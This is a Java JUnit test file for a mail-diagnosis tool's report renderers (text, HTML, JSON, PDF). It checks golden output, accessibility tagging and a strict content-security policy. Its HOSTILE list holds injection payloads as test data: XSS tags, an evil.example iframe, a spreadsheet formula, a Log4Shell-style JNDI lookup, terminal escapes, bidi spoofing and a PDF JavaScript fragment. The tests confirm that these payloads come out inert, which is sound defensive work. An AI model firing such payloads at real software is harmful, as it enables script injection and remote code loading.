package org.mailmedic.report;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.function.Function;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import javax.xml.parsers.DocumentBuilderFactory;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.documentinterchange.logicalstructure.PDStructureElement;
import org.apache.pdfbox.pdmodel.documentinterchange.logicalstructure.PDStructureNode;
import org.apache.pdfbox.pdmodel.documentinterchange.taggedpdf.PDTableAttributeObject;
import org.apache.pdfbox.text.PDFTextStripper;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.mailmedic.advice.PlainText;
import org.mailmedic.report.html.HtmlReport;
import org.mailmedic.report.json.JsonReport;
import org.mailmedic.report.mask.Masking;
import org.mailmedic.report.mask.OwnNames;
import org.mailmedic.report.pdf.PdfReport;
import org.mailmedic.report.text.TextReport;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;
import org.xml.sax.InputSource;

/// Every form of the report: what it says in every outcome, and that nothing in a report can do more than be read.
///
/// With `-Dgolden=write` the expected files are written instead of compared; look at what changed before you keep it.
final class RenderersTest {
    private static final ZoneId BERLIN = ZoneId.of("Europe/Berlin");
    private static final Path GOLDEN = Path.of("src", "test", "resources", "org", "mailmedic", "report", "golden");
    private static final List<String> OUTCOMES = Fixtures.FIRST;
    /// What somebody could put where we show text: for a browser, a terminal, a spreadsheet, the eye, a parser, a layout.
    private static final List<String> HOSTILE = List.of("<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
            "</style><script>alert(2)</script>",
            "</title></svg>--><iframe src='https://evil.example/'>", "javascript:alert(1)", "\u001b]0;owned\u0007\u001b[2J\u001b[31m",
            "safe\u202egnp.exe\u2066x\u2069", "a\u0000b\u0001c\u007f\u0085\u2028\u2029d", "=HYPERLINK(\"https://evil.example/\")",
            "\ud800 lone \udc00 surrogates",
            "W".repeat(20_000), "x\u0301".repeat(2000), "\ud83d\udd11日本語العربيةไทย", "&amp;&lt;&#0;&#x202e;",
            "%s%n%d{host}${jndi:ldap://evil.example/}",
            "\r\n\r\nHTTP/1.1 200", "]]><!--", "(\\) Tj ET Q /Evil <</S /JavaScript>>");

    private static String html(Report report) {
        return new HtmlReport(Locale.ENGLISH, BERLIN).write(report);
    }

    private static byte[] pdf(Report report) {
        return new PdfReport(Locale.ENGLISH, BERLIN).write(report);
    }

    private static String pdfText(byte[] pdf) {
        try (var document = Loader.loadPDF(pdf)) {
            return new PDFTextStripper().getText(document).replace("\r\n", "\n");
        } catch (IOException e) {
            throw new AssertionError(e);
        }
    }

    private static Report masked(String name) {
        return Masking.usual().apply(Fixtures.report(name), OwnNames.UNKNOWN);
    }

    @TestFactory
    Stream<DynamicTest> everyFormInEveryOutcome() {
        Map<String, Function<Report, String>> forms = new LinkedHashMap<>();
        forms.put("txt", report -> new TextReport(Locale.ENGLISH, BERLIN, 80, false).write(report));
        forms.put("html", report -> unstyled(html(report)));
        forms.put("json", JsonReport::write);
        forms.put("pdf.txt", report -> pdfText(pdf(report)));
        return OUTCOMES.stream().flatMap(name -> forms.entrySet().stream()
                .map(form -> DynamicTest.dynamicTest(name + "." + form.getKey(), () -> {
            String actual = form.getValue().apply(masked(name));
            Path file = GOLDEN.resolve(name + "." + form.getKey());
            if ("write".equals(System.getProperty("golden"))) {
                Files.createDirectories(GOLDEN);
                Files.writeString(file, actual);
            }
            assertEquals(Files.readString(file), actual, file + " (to accept: -Dgolden=write)");
        })));
    }

    /// Without the style, which is a file of its own, and its hash in the policy.
    private static String unstyled(String html) {
        return html.replaceFirst("(?s)<style>.*</style>", "<style>report.css</style>").replaceFirst("sha256-[^&]*", "sha256-of-report.css");
    }

    /// Each text in every place, one after the other and all together.
    private static Report everywhere(String text) {
        var verdict = new Report.Verdict(text, text, text, 0.7, text, text, List.of(text, text), List.of("e0", text), text);
        Map<String, Object> settings = new LinkedHashMap<>();
        for (String name : List.of("host", "security", "user", "auth", "from", "to", "symptom", text)) {
            settings.put(name, text);
        }
        settings.put("port", 587);
        var evidence = new ArrayList<Map<String, Object>>();
        for (String kind : List.of("dns", "tcp", "greeting", "hello", "starttls", "tls", "sign_in", "sender", "message", "page", "clock",
                "dns_canary",
                "firewall", "interfaces", "path", "long_line", "defect", "unheard_of")) {
            Map<String, Object> facts = new LinkedHashMap<>();
            for (String name : List.of("resolver", "name", "host", "address", "url", "raw", "local", "command", "body", text)) {
                facts.put(name, text);
            }
            facts.putAll(Map.of("id", "e" + evidence.size(), "kind", kind, "stage", text, "status", "failed", "started_ms", 1.0,
                    "duration_ms", 2.0,
                    "role", "target", "port", 25, "reply", Map.of("code", 550, "text", text)));
            facts.put("addresses", List.of(text, text));
            facts.put("certificate", Map.of("names", List.of(text), "problems", List.of(text), "chain",
                    List.of(Map.of("subject", text, "issuer", text, "names",
                    List.of(text), "not_before", text, "not_after", text, "serial", text, "sha256", text, "key_type", text,
                    "signature_algorithm", text))));
            if (kind.equals("tcp")) {
                facts.put("failure", text);
            }
            evidence.add(facts);
        }
        return new Report(text, Samples.CREATED, new Report.Tool(text, text, text, text), settings, Report.Outcome.PROBLEM,
                List.of(verdict, verdict),
                List.of(verdict), List.of(new Report.StageResult("dns", text, 0, 1), new Report.StageResult(text, "failed", 1, 2)),
                evidence,
                List.of(new Report.Line(1, "server", text), new Report.Line(2, text, text)), 9, List.of(text));
    }

    @TestFactory
    Stream<DynamicTest> hostileTextIsInertInHtml() {
        return HOSTILE.stream().map(text -> DynamicTest.dynamicTest(PlainText.of(text, 40), () -> {
            String html = html(everywhere(text));
            inert(html);
            var names = new TreeSet<String>();
            walk(parsed(html).getDocumentElement(), names);
            assertEquals(List.of(), names.stream().filter(name -> !List.of("html", "head", "meta", "title", "style", "body", "main",
                    "header", "svg", "rect", "g",
                    "path", "span", "p", "h1", "h2", "h3", "ol", "ul", "li", "strong", "div", "section", "article", "table", "caption",
                    "thead", "tbody", "tr",
                    "th", "td", "footer").contains(name)).toList(), "elements that are not ours");
        }));
    }

    private static void inert(String text) {
        text.codePoints().filter(c -> c != '\n' && PlainText.dangerous(c)).findFirst().ifPresent(c -> {
            throw new AssertionError(String.format("U+%04X stands there as it is", c));
        });
    }

    /// Read as XML after the few elements without an end were given one: a second, strict parser finds what a browser would forgive.
    private static Document parsed(String html) throws Exception {
        String xml = html.replaceFirst("<!DOCTYPE html>", "").replaceAll("(<meta [^>]*[^/])>",
                "$1/>").replaceAll("(?s)<style>.*?</style>", "<style/>");
        var factory = DocumentBuilderFactory.newInstance();
        factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
        return factory.newDocumentBuilder().parse(new InputSource(new StringReader(xml)));
    }

    private static void walk(Element element, Set<String> names) {
        names.add(element.getTagName());
        for (int i = 0; i < element.getAttributes().getLength(); i++) {
            String name = element.getAttributes().item(i).getNodeName();
            assertFalse(name.startsWith("on") || List.of("style", "href", "src", "srcdoc", "action").contains(name), name);
        }
        for (Node child = element.getFirstChild(); child != null; child = child.getNextSibling()) {
            if (child instanceof Element inner) {
                walk(inner, names);
            }
        }
    }

    @TestFactory
    Stream<DynamicTest> hostileTextIsInertInPdf() {
        return HOSTILE.stream().map(text -> DynamicTest.dynamicTest(PlainText.of(text, 40), () -> {
            byte[] bytes = pdf(everywhere(text));
            try (var document = Loader.loadPDF(bytes)) {
                inert(new PDFTextStripper().getText(document).replace("\r", ""));
                assertEquals(null, document.getDocumentCatalog().getOpenAction());
                assertEquals(null, document.getDocumentCatalog().getNames());
                for (var page : document.getPages()) {
                    assertTrue(page.getAnnotations().isEmpty());
                }
                inert(document.getDocumentInformation().getTitle());
                assertTrue(document.getNumberOfPages() < 400, document.getNumberOfPages() + " pages");
            }
        }));
    }

    @TestFactory
    Stream<DynamicTest> hostileTextIsInertInTextAndJson() {
        return HOSTILE.stream().map(text -> DynamicTest.dynamicTest(PlainText.of(text, 40), () -> {
            inert(TextReport.write(everywhere(text), false));
            inert(JsonReport.write(everywhere(text)));
        }));
    }

    @Test
    void thePolicyAllowsTheOneStyleSheetAndNothingElse() throws Exception {
        String html = html(masked("blocked"));
        var policy = Pattern.compile("content=\"(default-src[^\"]*)\"").matcher(html);
        assertTrue(policy.find());
        var style = Pattern.compile("(?s)<style>(.*?)</style>").matcher(html);
        assertTrue(style.find());
        String hash = Base64.getEncoder()
                .encodeToString(MessageDigest.getInstance("SHA-256").digest(style.group(1).getBytes(StandardCharsets.UTF_8)));
        assertEquals("default-src 'none'; style-src 'sha256-" + hash + "'; base-uri 'none'; form-action 'none'",
                policy.group(1).replace("&#39;", "'"));
        assertFalse(html.contains("<script") || html.contains("style=\"") || html.contains("url(") || html.contains("@import")
                || html.contains("src="), "nothing comes from outside");
        assertTrue(style.group(1).contains("prefers-color-scheme: dark") && style.group(1).contains("@media print"));
    }

    @Test
    void theLetterIsInEveryFormThatPeopleRead() {
        String question = "Could you please open outgoing port 587";
        var report = Fixtures.report("blocked");
        for (String form : List.of(html(report), pdfText(pdf(report)), TextReport.write(report, false).replace("\n │ ", " "))) {
            assertTrue(form.contains(question), form);
            assertTrue(form.contains("Time of the test: 20 November 2026, 14:02 (UTC+01:00)"), form);
        }
    }

    @Test
    void thePdfIsTaggedAndKnowsItsLanguageAndTitle() throws IOException {
        try (var document = Loader.loadPDF(pdf(masked("blocked")))) {
            var catalog = document.getDocumentCatalog();
            assertEquals("en", catalog.getLanguage());
            assertTrue(catalog.getMarkInfo().isMarked());
            assertTrue(catalog.getViewerPreferences().displayDocTitle());
            assertEquals("Your Internet provider or router blocks port 587 (mail.gmx.example)",
                    document.getDocumentInformation().getTitle());
            var root = catalog.getStructureTreeRoot();
            assertNotNull(root.getParentTree());
            var types = new ArrayList<String>();
            collect(root, types);
            for (String type : List.of("H1", "H2", "H3", "P", "L", "LI", "LBody", "BlockQuote", "Table", "TR", "TH", "TD")) {
                assertTrue(types.contains(type), type);
            }
            int page = 0;
            for (var each : document.getPages()) {
                assertEquals(page++, each.getStructParents());
                for (var name : each.getResources().getFontNames()) {
                    var font = each.getResources().getFont(name);
                    assertTrue(font.isEmbedded(), "a typeface is not embedded");
                    assertNotNull(font.getCOSObject().getDictionaryObject(COSName.TO_UNICODE), "text could not be copied");
                }
            }
        }
    }

    @Test
    void thePdfPromisesThatItCanBeReadAloud() throws Exception {
        try (var document = Loader.loadPDF(pdf(masked("blocked")))) {
            var packet = DocumentBuilderFactory.newDefaultNSInstance().newDocumentBuilder()
                    .parse(document.getDocumentCatalog().getMetadata().exportXMPMetadata());
            assertEquals("1", packet.getElementsByTagNameNS("http://www.aiim.org/pdfua/ns/id/", "part").item(0).getTextContent());
            assertEquals(document.getDocumentInformation().getTitle(),
                    packet.getElementsByTagNameNS("http://purl.org/dc/elements/1.1/", "title").item(0).getTextContent().strip());
            checkTables(document.getDocumentCatalog().getStructureTreeRoot());
        }
    }

    /// Every row of a table has as many cells as the others, and every heading says what it heads.
    private static void checkTables(PDStructureNode node) {
        for (Object kid : node.getKids()) {
            if (kid instanceof PDStructureElement element) {
                if (element.getStructureType().equals("TH")) {
                    assertTrue(element.getAttributes().size() == 1
                            && element.getAttributes().getObject(0) instanceof PDTableAttributeObject heading
                            && heading.getScope() != null, "a heading without a scope");
                }
                if (element.getStructureType().equals("Table")) {
                    var widths = element.getKids().stream().map(row -> ((PDStructureElement) row).getKids().size()).distinct().toList();
                    assertEquals(1, widths.size(), () -> "rows of different length: " + widths);
                }
                checkTables(element);
            }
        }
    }

    private static void collect(PDStructureNode node, List<String> types) {
        for (Object kid : node.getKids()) {
            if (kid instanceof PDStructureElement element) {
                types.add(element.getStructureType());
                collect(element, types);
            }
        }
    }

    @Test
    void everyPageHasItsNumber() {
        String text = pdfText(pdf(masked("blocked")));
        int pages = text.split("Page 1 of ")[1].charAt(0) - '0';
        for (int page = 1; page <= pages; page++) {
            assertTrue(text.contains("Page " + page + " of " + pages));
        }
    }

    @Test
    void anEmptyReportIsShownToo() {
        var empty = new Report("", Samples.CREATED, new Report.Tool("", "", "", ""), Map.of(), Report.Outcome.PROBLEM, List.of(),
                List.of(), List.of(),
                List.of(), List.of(), 0);
        assertTrue(html(empty).contains("Something stops your mail"));
        assertTrue(pdfText(pdf(empty)).contains("Something stops your mail"));
    }

    @Test
    void aVeryLongReportEndsAndSaysWhatIsLeftOut() {
        var report = Fixtures.report("blocked");
        var evidence = new ArrayList<Map<String, Object>>();
        var lines = new ArrayList<Report.Line>();
        for (int i = 0; i < 3000; i++) {
            var facts = new LinkedHashMap<>(report.evidence().get(i % report.evidence().size()));
            facts.put("id", "e" + i);
            evidence.add(facts);
            lines.add(new Report.Line(i, "server", "250 line " + i));
        }
        var huge = new Report(report.id(), report.created(), report.tool(), report.settings(), report.outcome(), report.diagnoses(),
                report.warnings(),
                report.stages(), evidence, lines, report.totalMs());
        assertTrue(html(huge).contains("And 2800 more."));
        assertTrue(pdfText(pdf(huge)).contains("And 2600 more."));
    }
}
